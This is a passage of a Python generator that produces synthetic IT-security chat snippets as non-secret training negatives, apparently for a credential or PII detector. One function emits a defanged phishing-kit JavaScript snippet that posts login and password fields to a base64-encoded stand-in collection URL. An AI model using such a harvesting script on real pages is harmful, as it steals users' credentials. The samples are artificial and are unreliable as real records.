        snake(2), R.randint(20, 400), R.randint(0x10, 0x2ff), R.randint(9, 16), R.randint(100, 400), R.randint(20, 90), R.randint(0x10, 0x1ff)))

@neg(C)
def ci_feature_flags():
    flags = ["%s.%s" % (pick(["sso", "mdm", "vuln", "phish", "fw"]), snake(R.randint(3, 5))) for _ in range(R.randint(3, 6))]
    head = say({"en": "flags touched in this release:", "de": "Flags in diesem Release:", "es": "flags que cambian en esta versión:", "ko": "이번 릴리스에서 바뀐 플래그:", "ru": "флаги в этом релизе:"})
    return head + "\n" + "\n".join("- `%s` → %s" % (f, pick(["on", "off", "10%", "staff only"])) for f in flags)

@neg(C)
def ci_sql_columns():
    cols = ["password_hash", "password_changed_at", "mfa_secret_enrolled", "api_key_last_four", "token_fingerprint_sha256", "recovery_codes_remaining", "saml_name_id_format", "device_serial_number"]
    return "```sql\nSELECT %s\nFROM %s\nWHERE %s > now() - interval '%d days';\n```\n%s" % (
        ",\n       ".join(R.sample(cols, R.randint(3, 6))), pick(["iam.service_accounts", "sso.app_assignments", "mdm.device_inventory"]), pick(["password_changed_at", "last_seen_at", "created_at"]), R.randint(7, 400),
        say({"en": "(columns only, the hash column is not selected)", "fr": "(seulement les colonnes)", "it": "(solo le colonne)", "ja": "（列名のみ）"}))

@neg(C)
def ci_osquery():
    return ("```sql\n-- osquery pack: %s\nSELECT name, version, identifier FROM apps WHERE identifier LIKE 'com.%s.%%';\nSELECT path, sha256 FROM hash WHERE directory = '/Library/LaunchDaemons/';\n```\npack name `%s`, query id `%s`" % (
        snake(3), pick(["crowdstrike", "paloaltonetworks", "tailscale", "1password"]), snake(4), uid()))

@neg(C)
def ci_dotnet_trace():
    return ("Intune connector log:\n```\nSystem.Security.Cryptography.CryptographicException: Keyset does not exist\n   at Microsoft.Management.Services.IntuneConnector.%s.%s()\n   at Microsoft.Management.Services.IntuneConnector.CertificateStore.%s(String thumbprint)\n   at Microsoft.Management.Services.IntuneConnector.PkcsCertificateRequestHandler.<%s>d__%d.MoveNext()\n```" % (
        camel(3, False), camel(4, False), camel(3, False), camel(3, False), R.randint(1, 40)))

@neg(C)
def ci_bazel_targets():
    ts_ = ["//security/%s:%s" % (snake(2), snake(R.randint(3, 4))) for _ in range(R.randint(3, 6))]
    return "```\n$ bazel test %s\n%s\n```" % (" ".join(ts_[:2]), "\n".join("%s  PASSED in %.1fs" % (t, R.uniform(0.2, 30)) for t in ts_))

@neg(C)
def ci_graphql():
    return ("```graphql\nmutation %s($input: %sInput!) {\n  %s(input: $input) {\n    %s\n    %s\n  }\n}\n```\n%s" % (
        camel(3, False), camel(3, False), camel(3), camel(2), camel(3),
        say({"en": "resolver name is long but it's just an identifier", "pt": "o nome é longo mas é só um identificador", "nl": "lange naam, maar gewoon een identifier", "zh": "名字很长，但只是标识符"})))

@neg(C)
def ci_gpo_ids():
    rows = ["{%s}  %s" % (uid().upper(), pick(["Password Policy - Tier0", "LAPS Settings", "Defender ASR Rules", "BitLocker Recovery Escrow", "Disable NTLMv1"])) for _ in range(R.randint(3, 5))]
    return "GPO GUIDs %s\n```\n%s\n```" % (say({"en": "in the review:", "de": "im Review:", "fr": "de la revue :", "pl": "w przeglądzie:"}), "\n".join(rows))

@neg(C)
def ci_yara():
    name = snake(R.randint(3, 5))
    return ("```yara\nrule %s\n{\n  meta:\n    description = \"phishing kit credential harvester\"\n    id = \"%s\"\n  strings:\n    $a = \"%s\" ascii\n    $b = { %s }\n  condition:\n    all of them\n}\n```" % (
        name, uid(), camel(3), " ".join(hx(2) for _ in range(R.randint(8, 16)))))

# ---------------------------------------------------------------- non_credential_blob
C = "non_credential_blob"

def cert_b64():
    """Public X.509 certificate body (shape only: real DER header, filler TBS)."""
    n = R.randint(680, 900)
    tbs_len = n - 80
    body = (b"\x30\x82" + struct.pack(">H", n) + b"\x30\x82" + struct.pack(">H", tbs_len) + b"\xa0\x03\x02\x01\x02\x02\x14" + rb(20)
            + b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x0b\x05\x00" + rb(n - 40))
    return b64(body)

def rsa_spki_b64():
    der = (bytes.fromhex("30820122300d06092a864886f70d01010105000382010f003082010a0282010100") + bytes([R.randint(0xc0, 0xff)]) + rb(255) + bytes.fromhex("0203010001"))
    return b64(der)

def sha256hex():
    return hx(64)

@neg(C)
def nb_sbom():
    comps = []
    for _ in range(R.randint(2, 3)):
        name, eco = pick([("openssl", "deb/debian"), ("log4j-core", "maven/org.apache.logging.log4j"), ("jackson-databind", "maven/com.fasterxml.jackson.core"),
                          ("golang.org/x/net", "golang"), ("urllib3", "pypi"), ("xz-utils", "deb/debian"), ("lodash", "npm")])
        v = semver()
        comps.append('    {\n      "type": "library",\n      "bom-ref": "%s",\n      "name": "%s",\n      "version": "%s",\n      "purl": "pkg:%s/%s@%s",\n      "hashes": [{"alg": "SHA-256", "content": "%s"}]\n    }' % (uid(), name, v, eco, name, v, sha256hex()))
    return "%s\n```json\n{\n  \"bomFormat\": \"CycloneDX\",\n  \"specVersion\": \"1.5\",\n  \"serialNumber\": \"urn:uuid:%s\",\n  \"components\": [\n%s\n  ]\n}\n```" % (lead(0.6), uid(), ",\n".join(comps))

@neg(C)
def nb_dkim_sig_header():
    return ("%s\n```\nAuthentication-Results: mx.corp.internal;\n  dkim=pass header.d=%s header.s=%s header.b=%s;\n  spf=pass smtp.mailfrom=%s;\n  dmarc=pass (p=REJECT) header.from=%s\nDKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=%s;\n  t=%d; bh=%s;\n  h=from:to:subject:date:message-id;\n  b=%s\n   %s\nX-MS-Exchange-Organization-Network-Message-Id: %s\n```" % (
        say({"en": "headers from the reported mail (legit newsletter, closing):", "de": "Header der gemeldeten Mail (legitimer Newsletter):", "fr": "en-têtes du mail signalé (newsletter légitime) :",
             "ja": "報告されたメールのヘッダー（正規のニュースレター）:", "ru": "заголовки присланного письма (легитимная рассылка):", "es": "cabeceras del correo reportado (newsletter legítima):"}),
        *(lambda d, s: (d, s, rs(8, B64), "bounce." + d, d, d, s))(pick(["news.vendor-mail.example", "mailer.saas-status.example", "notify.hr-platform.example"]), pick(["selector1", "s2048", "k1", "google", "mte1"])),
        epoch(), b64(rb(32)), rs(76, B64), rs(R.randint(60, 90), B64) + "==", uid()))

@neg(C)
def nb_dkim_txt():
    sel = pick(["selector1", "s1", "k2", "mail2026", "sendgrid"])
    key = rsa_spki_b64()
    return ("```\n$ dig +short TXT %s._domainkey.corp.example\n\"v=DKIM1; k=rsa; p=%s\" \"%s\"\n```\n%s" % (
        sel, key[:250], key[250:], say({"en": "public key only, this is what DNS publishes", "de": "nur der öffentliche Schlüssel, steht so im DNS",
                                         "ja": "公開鍵のみ（DNSに公開されているもの）", "ko": "공개키만 있음, DNS에 공개된 값", "pt": "só a chave pública, é o que está no DNS"})))

@neg(C)
def nb_saml_metadata_cert():
    return ("%s IdP signing cert from the public metadata (expires %s):\n```xml\n<md:EntityDescriptor entityID=\"https://sts.windows.net/%s/\">\n  <md:IDPSSODescriptor protocolSupportEnumeration=\"urn:oasis:names:tc:SAML:2.0:protocol\">\n    <md:KeyDescriptor use=\"signing\">\n      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate></ds:X509Data></ds:KeyInfo>\n    </md:KeyDescriptor>\n  </md:IDPSSODescriptor>\n</md:EntityDescriptor>\n```" % (
        lead(0.6), "2028-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28)), uid(), cert_b64()))

@neg(C)
def nb_pem_cert():
    return ("%s\n```\n-----BEGIN CERTIFICATE-----\n%s\n-----END CERTIFICATE-----\n```\nSHA256 Fingerprint=%s" % (
        say({"en": "new intermediate for the VPN gateway (public cert, safe to share):", "de": "Neues Intermediate für das VPN-Gateway (öffentliches Zertifikat):",
             "fr": "nouveau certificat intermédiaire du VPN (public) :", "zh": "VPN 网关的新中间证书（公开证书）：", "el": "Νέο ενδιάμεσο πιστοποιητικό για το VPN (δημόσιο):"}),
        wrap64(cert_b64()), ":".join(hx(2).upper() for _ in range(32))))

@neg(C)
def nb_jwks():
    keys = ",\n".join('    {"kty": "RSA", "use": "sig", "alg": "RS256", "kid": "%s", "n": "%s", "e": "AQAB"}' % (b64u(rb(20)), b64u(bytes([R.randint(0xc0, 0xff)]) + rb(255))) for _ in range(R.randint(1, 2)))
    return "```\n$ curl -s https://login.corp.example/oauth2/v1/keys | jq .\n{\n  \"keys\": [\n%s\n  ]\n}\n```\n%s" % (keys, say({"en": "JWKS is public by design", "es": "el JWKS es público por diseño", "it": "il JWKS è pubblico per definizione", "ja": "JWKS は公開情報です"}))

@neg(C)
def nb_trivy_json():
    return ("```json\n{\n  \"VulnerabilityID\": \"%s\",\n  \"PkgName\": \"%s\",\n  \"InstalledVersion\": \"%s\",\n  \"FixedVersion\": \"%s\",\n  \"Layer\": {\"Digest\": \"sha256:%s\", \"DiffID\": \"sha256:%s\"},\n  \"SeveritySource\": \"nvd\",\n  \"DataSource\": {\"ID\": \"debian\", \"URL\": \"https://salsa.debian.org/security-tracker-team/security-tracker\"}\n}\n```" % (
        cve(), pick(["libssl3", "libexpat1", "zlib1g", "libcurl4", "openssh-client"]), semver() + "-1", semver() + "-1+deb12u1", sha256hex(), sha256hex()))

@neg(C)
def nb_ioc_hashes():
    rows = []
    for _ in range(R.randint(3, 6)):
        rows.append("%s  %s  %s  %s" % (pick(["invoice_%d.html" % R.randint(1000, 9999), "Payment_Advice.iso", "scan_%d.pdf.lnk" % R.randint(10, 99), "update.js"]), hx(32), hx(40), hx(64)))
    head = say({"en": "IOCs from today's phishing wave (attachment hashes, md5 / sha1 / sha256):", "de": "IOCs der heutigen Phishing-Welle (Anhang-Hashes):",
                "nl": "IOC's van de phishinggolf van vandaag:", "ru": "IOC по сегодняшней фишинговой рассылке (хэши вложений):", "ko": "오늘 피싱 메일 IOC (첨부파일 해시):"})
    return head + "\n```\n" + "\n".join(rows) + "\n```"

@neg(C)
def nb_lockfile():
    pk = pick(["jsonwebtoken", "node-forge", "xml-crypto", "passport-saml", "openid-client", "jose"])
    return ("%s `npm audit` fix bumped it, lockfile diff:\n```diff\n   \"node_modules/%s\": {\n-    \"version\": \"%s\",\n-    \"resolved\": \"https://registry.npmjs.org/%s/-/%s-%s.tgz\",\n-    \"integrity\": \"sha512-%s\",\n+    \"version\": \"%s\",\n+    \"resolved\": \"https://registry.npmjs.org/%s/-/%s-%s.tgz\",\n+    \"integrity\": \"sha512-%s\",\n```" % (
        lead(0.5), pk, *(lambda a, b: (a, pk, pk, a, b64(rb(64)), b, pk, pk, b, b64(rb(64))))(*sorted((semver(), semver()), key=lambda v: tuple(map(int, v.split(".")))))))

@neg(C)
def nb_hexdump():
    off = 0
    lines = []
    data = b"\x16\x03\x01" + rb(R.randint(60, 110))
    for i in range(0, len(data), 16):
        chunk = data[i:i + 16]
        lines.append("%08x  %-48s |%s|" % (i, " ".join("%02x" % c for c in chunk), "".join(chr(c) if 32 <= c < 127 else "." for c in chunk)))
    return "%s TLS ClientHello the firewall dropped:\n```\n$ xxd -g1 hello.bin\n%s\n```" % (lead(0.6), "\n".join(lines))

@neg(C)
def nb_protobuf():
    return ("%s the EDR event arrives as base64 protobuf, decoded it's just process metadata:\n```\nevent_b64: %s\n```" % (
        say({"en": "re the parser bug:", "de": "zum Parser-Bug:", "fr": "à propos du bug du parseur :", "ja": "パーサのバグの件:", "uk": "щодо бага в парсері:"}),
        b64(b"\x0a\x24" + uid().encode() + b"\x12" + bytes([R.randint(10, 30)]) + rs(R.randint(10, 30)).encode()[:0] + rb(R.randint(10, 30)) + b"\x18" + rb(3) + b"\x22\x10" + rb(16))))

@neg(C)
def nb_ssh_hostkeys():
    return ("```\n$ ssh-keyscan -t ed25519,ecdsa,rsa %s 2>/dev/null | ssh-keygen -lf -\n256 SHA256:%s %s (ED25519)\n256 SHA256:%s %s (ECDSA)\n3072 SHA256:%s %s (RSA)\n```\n%s" % (
        *(lambda h: (h, b64(rb(32)).rstrip("="), h, b64(rb(32)).rstrip("="), h, b64(rb(32)).rstrip("="), h))(priv_ip()),
        say({"en": "host key fingerprints for the new bastion, please verify on first connect", "de": "Host-Key-Fingerprints des neuen Bastion-Hosts",
             "es": "huellas de las claves de host del nuevo bastión", "zh": "新跳板机的主机密钥指纹，首次连接请核对"})))

@neg(C)
def nb_minified_js():
    v = ["a", "b", "c", "d", "e", "n", "t", "r"]
    js = "!function(%s,%s){var %s=%s.createElement(\"form\");%s.action=atob(\"%s\");%s.method=\"POST\";for(var %s in %s)%s.append(%s[%s])}(document,{u:\"#%s\",p:\"#%s\"});" % (
        v[0], v[1], v[2], v[0], v[2], b64(b"hxxps://collect.phish-kit.example/p.php"), v[2], v[3], v[1], v[2], v[1], v[3], pick(["login-user", "i0116", "userEmailField"]), pick(["login-pass", "i0118", "passwd-field"]))
    return "%s defanged snippet from the phishing kit (exfil endpoint base64'd, fields are element ids):\n```js\n%s\n```" % (lead(0.6), js)

@neg(C)
def nb_cosign():
    return ("```\n$ cosign verify ghcr.io/corp/vuln-bot@sha256:%s --certificate-identity-regexp '.*' --certificate-oidc-issuer https://token.actions.githubusercontent.com\nVerification for ghcr.io/corp/vuln-bot@sha256:%s --\nThe following checks were performed:\n  - The cosign claims were validated\n  - Existence of the claims in the transparency log was verified offline\n[{\"critical\":{\"image\":{\"docker-manifest-digest\":\"sha256:%s\"}},\"optional\":{\"Bundle\":{\"SignedEntryTimestamp\":\"%s\",\"Payload\":{\"logIndex\":%d}}}}]\n```" % (
        *(lambda d: (d, d, d))(sha256hex()), b64(rb(70)), R.randint(10000000, 180000000)))

@neg(C)
def nb_saml_response_sig():
    return ("%s decoded SAMLResponse from the HAR (the assertion itself is stripped, only the signature block):\n```xml\n<ds:SignedInfo>\n  <ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>\n  <ds:SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\"/>\n  <ds:Reference URI=\"#_%s\">\n    <ds:DigestValue>%s</ds:DigestValue>\n  </ds:Reference>\n</ds:SignedInfo>\n<ds:SignatureValue>%s</ds:SignatureValue>\n```" % (
        lead(0.6), hx(40), b64(rb(32)), wrap64(b64(rb(256)), 76)))

@neg(C)
def nb_pip_hashes():
    return ("```\n# requirements.txt (pip-compile --generate-hashes)\n%s==%s \\\n    --hash=sha256:%s \\\n    --hash=sha256:%s\ncryptography==%s \\\n    --hash=sha256:%s\n```" % (
        pick(["pyjwt", "python3-saml", "requests", "urllib3", "pysaml2"]), semver(), sha256hex(), sha256hex(), pick(["43.0.3", "44.0.1", "45.0.2"]), sha256hex()))

@neg(C)
def nb_sha256sums():
    files = ["%s_%s_%s.%s" % (pick(["osquery", "trivy", "grype", "syft", "falcoctl", "velociraptor"]), semver(), pick(["linux_amd64", "darwin_arm64", "windows_amd64"]), pick(["tar.gz", "zip", "pkg", "msi"])) for _ in range(R.randint(3, 5))]
    return "%s\n```\n$ cat SHA256SUMS\n%s\n```" % (say({"en": "checksums we pin in the MDM package catalog:", "de": "Checksummen, die wir im MDM-Katalog pinnen:",
                                                    "it": "checksum che fissiamo nel catalogo MDM:", "pl": "sumy kontrolne przypięte w katalogu MDM:", "ja": "MDM カタログで固定しているチェックサム:"}),
                                                   "\n".join("%s  %s" % (sha256hex(), f) for f in files))

# ---------------------------------------------------------------- pii_lookalike_number
C = "pii_lookalike_number"

@neg(C)
def pn_trivy_table():
    rows = []
    for _ in range(R.randint(3, 7)):
        rows.append("│ %-12s│ %-16s│ %-8s│ %-11s│ %-14s│" % (pick(["libssl3", "openssh", "curl", "glibc", "libxml2", "sudo", "krb5"]), cve(), pick(["CRITICAL", "HIGH", "MEDIUM", "LOW"]), semver(), semver()))
    return "%s\n```\n│ Library     │ Vulnerability   │ Severity│ Installed  │ Fixed         │\n%s\n```\nTotal: %d (CRITICAL: %d, HIGH: %d)" % (lead(0.6), "\n".join(rows), len(rows), R.randint(0, 2), R.randint(1, 4))

@neg(C)
def pn_firewall_review():
    rows = []
    for i in range(R.randint(4, 9)):
        rows.append("| %d | %s | %s | %s | %s | %s |" % (R.randint(1000, 9999), priv_cidr(), pick([priv_cidr(), priv_ip() + "/32", doc_ip() + "/32"]), pick(["tcp/443", "tcp/22", "tcp/3389", "udp/53", "tcp/5432", "tcp/8443", "udp/500,4500", "tcp/636"]),
                                                   pick(["allow", "deny", "allow (log)"]), pick(["keep", "remove", "tighten", "owner?"])))
    head = say({"en": "Quarterly firewall rule review, %s:" % pick(["DC-core", "office-VLANs", "VPN pool"]),
                "de": "Quartals-Review der Firewall-Regeln (%s):" % pick(["DC-core", "Büro-VLANs"]),
                "fr": "Revue trimestrielle des règles pare-feu :", "ja": "四半期ファイアウォールルールレビュー:", "es": "Revisión trimestral de reglas del firewall:"})
    return head + "\n| rule | src | dst | svc | action | decision |\n|---|---|---|---|---|---|\n" + "\n".join(rows)

@neg(C)
def pn_endpoint_csv():
    rows = ["device_name,serial,asset_tag,inventory_id,os_version,last_checkin,compliant"]
    for _ in range(R.randint(6, 20)):
        rows.append("%s,%s,%s,%s,%s,%s,%s" % (hostname(), pick([apple_serial(), dell_tag(), "PF" + rs(6, "0123456789ABCDEFGHJKLMNPQRSTUVWXYZ")]), asset_tag(),
                                             "-".join("%02d" % R.randint(0, 99) for _ in range(6)), pick(["macOS 15.%d" % R.randint(0, 7), "Windows 11 23H2 (22631.%d)" % R.randint(3000, 5000), "Windows 11 24H2 (26100.%d)" % R.randint(1000, 4000)]),
                                             ts()[:10], pick(["true", "false"])))
    return "%s (inventory_id is our barcode scheme, looks like a MAC but isn't)\n```\n%s\n```" % (
        say({"en": "Intune export for the audit", "de": "Intune-Export fürs Audit", "nl": "Intune-export voor de audit", "ko": "감사용 Intune 내보내기", "ru": "Выгрузка из Intune для аудита"}), "\n".join(rows))

@neg(C)
def pn_cvss_discussion():
    c = cve()
    return say({
        "en": "%s is CVSS %.1f (vector AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H), EPSS %.5f, percentile %.3f. Fixed in %s. We have %d hosts on %s." % (c, R.uniform(7, 10), R.random() * 0.9, R.random(), semver(), R.randint(3, 400), semver()),
        "de": "%s hat CVSS %.1f, EPSS %.5f. Gefixt in %s, betroffen sind %d Hosts." % (c, R.uniform(7, 10), R.random() * 0.9, semver(), R.randint(3, 400)),
        "fr": "%s : CVSS %.1f, EPSS %.5f, corrigé en %s, %d machines concernées." % (c, R.uniform(7, 10), R.random() * 0.9, semver(), R.randint(3, 400)),
        "zh": "%s 的 CVSS 为 %.1f，EPSS %.5f，%s 中已修复，受影响主机 %d 台。" % (c, R.uniform(7, 10), R.random() * 0.9, semver(), R.randint(3, 400)),
        "pt": "%s: CVSS %.1f, EPSS %.5f, corrigido na %s, %d hosts afetados." % (c, R.uniform(7, 10), R.random() * 0.9, semver(), R.randint(3, 400)),
    })

@neg(C)
def pn_patch_tuesday():
    kbs = ["KB50%05d" % R.randint(0, 99999) for _ in range(R.randint(2, 4))]
    return "%s Patch Tuesday: %s. Build after install: 10.0.%d.%d. Ring 1 = %d devices, ring 2 = %d, deadline %s 18:00 UTC." % (
        lead(0.5), ", ".join(kbs), pick([22631, 26100, 20348]), R.randint(3000, 5200), R.randint(20, 300), R.randint(300, 4000), "2026-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28)))

@neg(C)
def pn_vpn_pool():
    return ("```\n# ipsec.conf excerpt\nconn corp-remote\n    left=%%defaultroute\n    leftsubnet=%s,%s\n    rightsourceip=%s\n    rightdns=%s,%s\n    ike=aes256-sha256-modp2048!\n    esp=aes256gcm16!\n    ikelifetime=%dh\n```\n%s" % (
        priv_cidr(), priv_cidr(), "10.%d.0.0/16" % R.randint(100, 250), priv_ip(), priv_ip(), pick([8, 24]),
        say({"en": "pool is 100.64.0.0/10 on the other site, all private", "de": "alles private Netze", "ja": "すべてプライベートアドレスです", "es": "todo son rangos privados"})))

@neg(C)
def pn_asset_purchase():
    return say({
        "en": "Hardware PO %d: %d × MacBook Pro 14\" at $%s each, %d × docking stations at $%s; invoice INV-%d, delivery ref %d. Asset tags %s to %s reserved." % (
            R.randint(4500000000, 4599999999), R.randint(5, 40), "{:,}".format(R.randint(1800, 2600)) + ".00", R.randint(5, 40), R.randint(180, 320), R.randint(200000, 299999), R.randint(10 ** 9, 10 ** 10 - 1), *asset_range()),
        "de": "Bestellung %d: %d Laptops à %s €, Rechnung INV-%d. Inventarnummern %s bis %s sind reserviert." % (R.randint(4500000000, 4599999999), R.randint(5, 40), "{:,}".format(R.randint(1500, 2600)).replace(",", "."), R.randint(200000, 299999), *asset_range()),
        "ja": "発注番号 %d：ノートPC %d 台（単価 %s 円）、請求書 INV-%d。資産タグ %s 〜 %s を確保済み。" % (R.randint(4500000000, 4599999999), R.randint(5, 40), "{:,}".format(R.randint(180000, 320000)), R.randint(200000, 299999), *asset_range()),
    })

@neg(C)
def pn_ports_scan():
    ip = priv_ip()
    ports = sorted(R.sample([22, 53, 80, 88, 135, 139, 389, 443, 445, 636, 3268, 3389, 5985, 8080, 8443, 9100], R.randint(4, 8)))
    return "```\n$ nmap -sS -Pn %s\nNmap scan report for %s\nPORT     STATE SERVICE\n%s\nNmap done: 1 IP address (1 host up) scanned in %.2f seconds\n```" % (
        ip, ip, "\n".join("%-8s open  %s" % ("%d/tcp" % p, {22: "ssh", 53: "domain", 80: "http", 88: "kerberos-sec", 135: "msrpc", 139: "netbios-ssn", 389: "ldap", 443: "https", 445: "microsoft-ds", 636: "ldapssl", 3268: "globalcatLDAP", 3389: "ms-wbt-server", 5985: "wsman", 8080: "http-proxy", 8443: "https-alt", 9100: "jetdirect"}[p]) for p in ports), R.uniform(1, 30))

@neg(C)
def pn_ticket_summary():
    return "%s %s → %s (Jira SEC-%d, change CHG%07d, incident INC%07d). Window %s–%s UTC, rollback point %d (epoch)." % (
        lead(0.6), cve(), pick(["patched", "mitigated via WAF", "accepted risk until Q3"]), R.randint(100, 9999), R.randint(0, 9999999), R.randint(0, 9999999),
        "%02d:00" % R.randint(0, 20), "%02d:30" % R.randint(0, 22), epoch())

@neg(C)
def pn_mdm_device_detail():
    return ("```\nDevice:        %s\nSerial:        %s\nAsset tag:     %s\nWi-Fi MAC:     %s\nUDID:          %s\nOS:            macOS %s (build %s)\nFileVault:     On (recovery key escrowed)\nLast check-in: %s\n```\n%s" % (
        hostname(), apple_serial(), asset_tag(), doc_mac(), "%08X-%016X" % (R.getrandbits(32), R.getrandbits(64)), pick(["15.3.2", "15.4", "14.7.4", "15.5"]), pick(["24D81", "24E248", "23H420", "24F74"]), ts(),
        say({"en": "pool loaner, not assigned to anyone", "de": "Leihgerät aus dem Pool, niemandem zugewiesen", "fr": "machine de prêt, non attribuée", "ko": "대여용 장비, 사용자 미지정"})))

@neg(C)
def pn_siem_counts():
    rows = "\n".join("| %s | %s | %s |" % ("2026-%02d-%02d" % (R.randint(1, 11), R.randint(1, 28)), "{:,}".format(R.randint(10 ** 5, 10 ** 9)).replace(",", pick([",", " ", "."])), "%d ms" % R.randint(30, 4000)) for _ in range(R.randint(4, 8)))
    return "%s\n| day | events | p95 |\n|---|---:|---:|\n%s" % (say({"en": "SIEM ingest volume:", "de": "SIEM-Volumen:", "it": "Volume di ingestione SIEM:", "pl": "Wolumen SIEM:", "ru": "Объём SIEM:"}), rows)

@neg(C)
def pn_cert_serials():
    return "%s cert inventory: serial %s, not before %d, not after %d, key size %d, %d SANs, renewal ticket SEC-%d." % (
        lead(0.5), ":".join(hx(2) for _ in range(R.randint(16, 20))), epoch(), epoch() + 31536000, pick([2048, 3072, 4096]), R.randint(1, 40), R.randint(100, 9999))

@neg(C)
def pn_phish_stats():
    return say({
        "en": "Phishing sim Q%d: %d sent, %d opened, %d clicked (%.1f%%), %d reported within %d min. Campaign id %d." % (R.randint(1, 4), R.randint(800, 3000), R.randint(300, 800), R.randint(20, 200), R.uniform(1, 9), R.randint(100, 600), R.randint(2, 30), R.randint(10 ** 6, 10 ** 8)),
        "es": "Simulacro de phishing: %d enviados, %d clics (%.1f%%), %d reportados. Campaña %d." % (R.randint(800, 3000), R.randint(20, 200), R.uniform(1, 9), R.randint(100, 600), R.randint(10 ** 6, 10 ** 8)),
        "ja": "フィッシング訓練：送信 %d 件、クリック %d 件（%.1f%%）、報告 %d 件。キャンペーンID %d。" % (R.randint(800, 3000), R.randint(20, 200), R.uniform(1, 9), R.randint(100, 600), R.randint(10 ** 6, 10 ** 8)),
        "nl": "Phishing-simulatie: %d verstuurd, %d kliks, %d gemeld. Campagne %d." % (R.randint(800, 3000), R.randint(20, 200), R.randint(100, 600), R.randint(10 ** 6, 10 ** 8)),
    })

@neg(C)
def pn_spf_record():
    return "```\n$ dig +short TXT corp.example\n\"v=spf1 ip4:%s/24 ip4:%s ip6:2001:db8:%x::/48 include:_spf.mail-vendor.example include:spf.protection.outlook.com -all\"\n```\n%s %d DNS lookups, under the limit of 10" % (
        pick(["192.0.2.0", "198.51.100.0", "203.0.113.0"]), doc_ip(), R.randint(1, 0xfff), lead(0.6), R.randint(4, 9))

# ---------------------------------------------------------------- talk_about_secrets
C = "talk_about_secrets"

TALK = {
    "en": [
        "Password policy draft: minimum 14 characters, no forced periodic rotation, no composition rules, check against the breached-password list on change (NIST 800-63B style).",
        "Reminder: never paste an API token in a channel, even a private one. Use the one-time-secret link from the vault UI.",
        "Someone pasted a bot token in #it-helpdesk this morning; it was revoked within 4 minutes and the message is deleted. No action needed from anyone else.",
        "The SAML signing key for the HR app is rotated every 2 years; the new certificate goes in the metadata 30 days before the old one expires.",
        "Do we really want the service account passwords in the PAM vault *and* in the old spreadsheet? I'd kill the spreadsheet.",
        "The scanner flags every 40-char base64 string as an AWS secret, that's why we have 300 findings. Most are SRI hashes.",
        "Rotation of the LDAP bind credential is scheduled for Thursday; the sync job will fail for ~2 min while the new one propagates.",
        "Please stop sharing the break-glass password over the phone; it lives in the safe and in the vault, with dual control.",
        "Helpdesk must never ask users for their password or MFA code. If a caller insists, it's social engineering — hang up and report.",
        "We found the private key of the staging TLS cert in an old AMI snapshot. Cert revoked, snapshot deleted, new key generated on the HSM.",
        "If a phishing report includes the user's typed password, treat it as compromised: force reset, revoke sessions, check sign-in logs.",
        "OIDC client secrets now expire after 180 days; the pipeline creates the new one and writes it to vault, humans never see it.",
        "The recovery codes for the shared admin MFA are printed and sealed, not stored anywhere digital.",
    ],
    "de": [
        "Entwurf Passwortrichtlinie: mindestens 14 Zeichen, keine erzwungene Rotation, Abgleich mit der Liste kompromittierter Passwörter.",
        "Bitte keine Tokens in Slack posten, auch nicht in DMs. Für die Übergabe gibt es den Einmal-Link aus dem Vault.",
        "Der private Schlüssel des alten VPN-Zertifikats wurde aus dem Backup gelöscht und das Zertifikat widerrufen.",
        "Die Kreditkartendaten im Phishing-Formular wurden nie abgeschickt, das Formular war serverseitig kaputt.",
    ],
    "fr": [
        "Politique de mots de passe : 14 caractères minimum, pas de rotation forcée, vérification contre les mots de passe compromis.",
        "Le jeton du bot a fuité dans un log de CI ; il a été révoqué et remplacé, le log purgé.",
        "Rappel : le support ne demande jamais votre mot de passe ni votre code MFA.",
    ],
    "es": [
        "Política de contraseñas: mínimo 14 caracteres, sin caducidad forzada y comprobación contra listas de contraseñas filtradas.",
        "Se rotó la clave API del escáner después de que apareciera en un ticket; el ticket ya está limpio.",
        "Nunca compartáis la clave privada del certificado por chat, aunque sea interno.",
    ],
    "pt": ["A senha da conta de serviço foi trocada e guardada no cofre; ninguém precisa dela em texto.",
           "Se o usuário digitou a senha na página de phishing, reset imediato e revogação das sessões."],
    "it": ["La chiave privata del certificato SAML resta nell'HSM, nel metadata va solo il certificato pubblico.",
           "Il token del bot è stato revocato dopo che è finito in un log pubblico."],
    "nl": ["Wachtwoordbeleid: minimaal 14 tekens, geen verplichte wissel, wel controle op gelekte wachtwoorden."],
    "pl": ["Hasło do konta serwisowego zostało zmienione i zapisane w sejfie, nikt nie musi go znać."],
    "ja": [
        "パスワードポリシー案：14文字以上、定期変更の強制なし、漏洩パスワードリストとの照合あり。",
        "Slack にトークンを貼らないでください。受け渡しは Vault のワンタイムリンクで。",
        "ステージング証明書の秘密鍵が古いスナップショットに残っていたため、証明書を失効させて鍵を再生成しました。",
    ],
    "zh": ["密码策略草案：至少 14 位，不强制定期更换，修改时检查是否在泄露密码库中。",
           "机器人令牌误贴到了公共频道，已在几分钟内吊销并删除消息。"],
    "ko": ["비밀번호 정책 초안: 최소 14자, 주기적 변경 강제 없음, 유출 비밀번호 목록과 대조.",
           "헬프데스크는 절대 사용자 비밀번호나 MFA 코드를 묻지 않습니다."],
    "ru": ["Политика паролей: минимум 14 символов, без принудительной смены, проверка по базе утёкших паролей.",
           "Токен бота попал в лог CI, его отозвали и выпустили новый, лог почистили."],
    "uk": ["Ключ API сканера перевипущено, старий відкликано."],
    "el": ["Το ιδιωτικό κλειδί του πιστοποιητικού παραμένει στο HSM· στο metadata μπαίνει μόνο το δημόσιο πιστοποιητικό."],
}

def talk_sentence():
    lang = pick(list(TALK)) if R.random() < 0.55 else "en"
    if lang != "en":
        LANGS.add(lang)
    return pick(TALK[lang])

@neg(C)
def ts_single():
    return talk_sentence()

@neg(C)
def ts_pair():
    a, b = talk_sentence(), talk_sentence()
    return a + "\n" + b if a != b else a

@neg(C)
def ts_thread():
    q = say({"en": "Q: do we need to rotate the SIEM ingest token after the contractor left?", "de": "Frage: Müssen wir das SIEM-Token nach dem Weggang des Dienstleisters rotieren?",
